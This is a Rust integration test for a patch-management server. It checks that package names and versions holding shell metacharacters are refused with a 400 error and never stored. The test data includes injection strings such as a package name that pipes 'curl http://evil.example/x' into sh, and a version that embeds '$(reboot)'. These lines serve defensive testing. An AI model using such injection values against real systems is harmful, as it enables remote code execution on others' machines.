//! Security issue, hole 4: shell injection through package names. Agents'
//! reports are held to each ecosystem's rules at the boundary (400 naming the
//! package and the rule, nothing stored).

use crate::support::{Server, minbase_before};
use patchbay_agent::http::{Client, HttpError};
use patchbay_core::inventory::{HostFacts, Inventory, OsRelease, Package, PackageFormat, dpkg};
use patchbay_proto::agent::{CheckinRequest, CheckinResponse, EnrollResponse, InventoryPayload};
use patchbay_proto::api::AssetDetail;
use std::time::Duration;

fn enrol(s: &Server, host: &str, machine_id: &str) -> Result<EnrollResponse, HttpError> {
    Client::new(&s.url, None, Duration::from_secs(30)).send(
        "POST",
        "/agent/v1/enroll",
        &serde_json::json!({"protocol": 1, "enroll_token": s.enroll_token(1), "hostname": host,
                            "machine_id": machine_id}),
    )
}

fn status_and_message(e: &HttpError) -> (u16, String) {
    match e {
        HttpError::Api {
            status, message, ..
        } => (*status, message.clone()),
        _ => panic!("not an API error: {e}"),
    }
}

fn inventory(packages: Vec<Package>) -> Inventory {
    let mut inv = Inventory {
        facts: HostFacts {
            hostname: "proto-host".into(),
            machine_id: "0123abcd".into(),
            os: OsRelease {
                id: "debian".into(),
                version_id: "12".into(),
                ..Default::default()
            },
            ..Default::default()
        },
        format: Some(PackageFormat::Deb),
        packages,
        pending_updates: vec![],
    };
    inv.normalize();
    inv
}

fn full(agent: &Client, inv: &Inventory) -> Result<CheckinResponse, HttpError> {
    agent.send(
        "POST",
        "/agent/v1/checkin",
        &CheckinRequest {
            protocol: 1,
            inventory_hash: inv.content_hash(),
            inventory: InventoryPayload::Full {
                inventory: inv.clone(),
            },
        },
    )
}

fn package_names_with_shell_metacharacters_are_refused_and_store_nothing(backend: &str) {
    let s = Server::start(backend);
    let e = enrol(&s, "proto-host", "0123abcd").unwrap();
    let agent = s.client(Some(&e.agent_secret));
    let base = dpkg::parse_status(&minbase_before()).unwrap();
    let good = inventory(base.clone());
    full(&agent, &good).unwrap();

    let evil = |name: &str, version: &str| {
        let mut ps = base.clone();
        ps.push(Package {
            name: name.into(),
            version: version.into(),
            arch: "amd64".into(),
            source: None,
            source_version: None,
        });
        inventory(ps)
    };
    let name = "libssl3;curl http://evil.example/x|sh;#";
    let err = full(&agent, &evil(name, "3.0.17-1~deb12u3")).unwrap_err();
    let (status, msg) = status_and_message(&err);
    assert_eq!(status, 400, "{msg}");
    assert!(
        msg.contains("libssl3;curl") && msg.contains("Debian Policy"),
        "{msg}"
    );
    let err = full(&agent, &evil("libssl3", "3.0.17-1$(reboot)")).unwrap_err();
    let (status, msg) = status_and_message(&err);
    assert_eq!(status, 400, "{msg}");
    assert!(msg.contains("invalid version"), "{msg}");

    // Nothing of either was stored.
    let d: AssetDetail = s.admin().get("/api/v1/assets/proto-host").unwrap();
    assert_eq!(d.packages.len(), base.len());
    assert!(
        d.packages
            .iter()
            .all(|p| !p.name.contains(';') && !p.version.contains('$'))
    );
    assert_eq!(
        d.inventory_hash.as_deref(),
        Some(good.content_hash().as_str())
    );

    // Imported (agentless) packages cannot carry shell metacharacters either.
    let e = s
        .admin()
        .send::<_, serde_json::Value>(
            "POST",
            "/api/v1/assets/import",
            &serde_json::json!([{"name": "fw-1", "packages": [{"name": "pan-os;id", "version": "11.1"}]}]),
        )
        .unwrap_err();
    assert_eq!(status_and_message(&e).0, 400);
    assert!(s.admin().get::<AssetDetail>("/api/v1/assets/fw-1").is_err());
}

crate::both_backends!(package_names_with_shell_metacharacters_are_refused_and_store_nothing);
